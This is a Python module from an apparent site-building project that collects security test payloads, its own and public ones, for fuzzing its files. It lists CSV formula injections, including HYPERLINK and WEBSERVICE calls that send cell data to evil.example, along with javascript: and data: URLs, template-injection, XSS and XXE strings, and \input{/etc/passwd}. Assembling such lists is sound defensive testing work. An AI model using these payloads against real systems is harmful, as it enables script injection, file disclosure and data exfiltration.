"""The lists of payloads: public ones, in ``lists/``, and our own for what none of them has."""

from __future__ import annotations

import gzip
import json
from itertools import product
from pathlib import Path

from factsite import signs
from factsite.check.names import folded
from factsite.load.scalars import read_text
from factsite.load.text import CONTROL

LISTS = Path(__file__).parent / "lists"
MARK = "payload"

SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    "''=",
    '"=',
    "＝",
    "＋",
    "－",
    "＠",
    "%",
    "|",
    ";=",
    ";'=",
    "\t-",
    ',"=',
)
CALLS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"click")', "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "SUM(1+1)*cmd|' /C notepad'!'A1'", "rundll32|'URL.dll,OpenURL calc.exe'!A", 'WEBSERVICE("http://evil.example")', "0",
)  # fmt: skip
TABLES = (
    *(sign + call for sign, call in product(SIGNS, CALLS)),
    'a;=1+1', 'a,"=1+1', 'a\t=1+1', 'a\r\n=1+1', 'a";"=1+1', "a ; +1", '"=1+1";"', "a;'=1+1", "'", "''", "'a", ";", "a;b", "-5 to 3", "+49 30 1",
)  # fmt: skip
"""What begins as a formula does, at the beginning of a cell or after what some programs part cells by."""

SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
    "\tjavascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "javascript&#x3A;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script&colon;alert(1)", "javascript%3Aalert(1)", "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,x", "vbscript:msgbox(1)",
    "file:///etc/passwd", "blob:https://evil.example/x", "filesystem:https://evil.example/x", "view-source:https://evil.example", "about:blank",
    "feed:javascript:alert(1)", "jar:http://evil.example!/x", "ws://evil.example", "ftp://evil.example/x", "tel:1", "sms:1", "intent://x#Intent;end",
    "//evil.example/x", "///evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "\\/evil.example", "/\t/evil.example", "/\n/evil.example",
    "http:evil.example", "https:evil.example", "http:/evil.example", "https:\\\\evil.example", "https:///evil.example", "HTTPS://evil.example/x",
    "https://user:pass@evil.example/", "https://good.example@evil.example", "https://good.example\\@evil.example", "https://evil.example\" onclick=\"alert(1)",
    "https://evil.example' onclick='alert(1)", "https://evil.example/><script>alert(1)</script>", "https://evil.example/{{7*7}}", "https://еvil.example/", "https://[::1]/",
    "https://evil.example:0/", "https://evil.example:99999/", "https://%65vil.example/", "mailto:a@evil.example?body=x%0Abcc:b@evil.example", "#x\" onfocus=\"alert(1)", "?x", ".", "..", "../../..",
    "\u2028javascript:alert(1)", "\u00a0javascript:alert(1)", "\u3000javascript:alert(1)", "&nbsp;javascript:alert(1)", "\u0130avascript:alert(1)", "javas\u00adcript:alert(1)",
)  # fmt: skip
"""Addresses that lead elsewhere than they seem to, or run."""

SHAPES = (
    "[x]({})", "[x](<{}>)", '[x]({} "t")', "[x][r]\n\n[r]: {}", "[r]\n\n[r]: <{}> 't'", "<{}>", "![x]({})", "[![x]({})]({})", "![x][r]\n\n[r]: {}", "[x]( {} )", "[x](\n{}\n)",
    '<a href="{}">x</a>', "<a href='{}'>x", "<img src={}>", "`[x]({})`", "[x\\]({})", "**[x]({})**", "# [x]({})", "> [x]({})", "1. [x]({})", "    [x]({})", "[@s0:1]({})",
)  # fmt: skip
LINKS = tuple(shape.replace("{}", scheme) for shape, scheme in product(SHAPES, SCHEMES))
"""Each of them in each way in which Markdown makes links and pictures."""

OTHERS = (
    "{{7*7}}", "{% raw %}", "{%- include '/etc/passwd' -%}", "{# x #}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
    "{{ page.frame.title }}", "{{ self._TemplateReference__context }}", "%s %(x)s {0} {x!r} %n", "$$x$$ $1 \\1 \\g<0>", "{!! 7*7 !!}", "@{7*7}", "[[7*7]]",
    "</script><script>alert(1)</script>", "<!--<script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<![CDATA[x]]>", "</title><svg onload=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>", "</style><script>alert(1)</script>", "</noscript><p>x", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3e", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;lt;b&amp;gt;", "&notit; &copy &copy= &#0; &#x110000;", "&", "<", ">", "<<", "</", "<!", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;", "<x xmlns='y'/>", "<?php echo 1 ?>", "<x/>", "<plaintext>", "<svg><style><img src=x onerror=alert(1)>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "&title=x&body=y", "?a=b&c=d#e", "#", "%00 %0d%0aSet-Cookie: x", "+ %2B %26labels=bug", "template=x&labels=y", "x\r\n\r\ny", "a\nb", "a\u2028b\u2029c", "a\x85b", "@everyone #1 https://evil.example", "~~~\n<b>\n~~~", "```html\n<b>x</b>\n```",
    "\\", "\\\"", "\"", "'", "''", "\"\"", "`", "``", "*", "**", "_", "[", "]", "[]()", "![]()", "{", "}", "}}", "}} {{", "|", "~", "^", "%", "\\textbf{x} \\input{/etc/passwd} $x$ # & _ ~", "}, url = {x}", "@misc{x,}", "1e309", "NaN", "null", "true", "[1]", "{\"a\":1}",
    "<p>", "x</p><p>y", "<p>x</p>", "<em>x</em>", "<br>", "<a href=x>", "<a class=cite href=//evil.example>", "&#x202e;x", "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input>", "<link rel=stylesheet href=//evil.example>",
    "[a]: javascript:alert(1)", "[a]: <javascript:alert(1)>\n\n[a]", "*[a]: <b>", "[^1]: <b>", "<!-- x", "x -->", "{: onclick=alert(1)}", "{: #id .class onclick='x'}", "http://evil.example", "www.evil.example", "a@evil.example", "<a@evil.example>", "<mailto:a@evil.example>",
    "klzzwxh:0000", "\x02klzzwxh:0\x03", "wzxhzdk:0", "zz1337820767766393qq", "\x02amp\x03",
)  # fmt: skip
"""Templates, markup, entities, XML, addresses, BibTeX, and marks that python-markdown uses between its steps."""


def public() -> dict[str, list[str]]:
    """Return the public lists by their names."""
    return {
        path.name.partition(".")[0]: [
            json.loads(line) for line in gzip.decompress(path.read_bytes()).splitlines()
        ]
        for path in sorted(LISTS.glob("*.jsonl.gz"))
    }


def own() -> dict[str, list[str]]:
    """Return our own lists by their names."""
    return {"tables": [*TABLES], "addresses": [*SCHEMES], "links": [*LINKS], "others": [*OTHERS]}


def every(*more: str) -> list[str]:
    """Return all payloads that a file of ours can hold, each once; ``more`` are payloads of other lists."""
    texts = [text for one in (*own().values(), *public().values(), more) for text in one]
    return list(
        {folded(read_text(text)): text for text in texts if read_text(text) and possible(text)}.values()
    )


def possible(text: str) -> bool:
    """Say whether a file can hold a text: control characters and signs that hide are faults, and lone surrogates are no UTF-8."""
    return (
        not (CONTROL.search(text) or any(signs.found(text)))
        and text.encode("utf-8", "ignore").decode() == text
    )


def within(text: str) -> bool:
    """Say whether a text can stand within others: a byte order mark is one at the beginning of a file alone."""
    return not text.startswith("\ufeff")
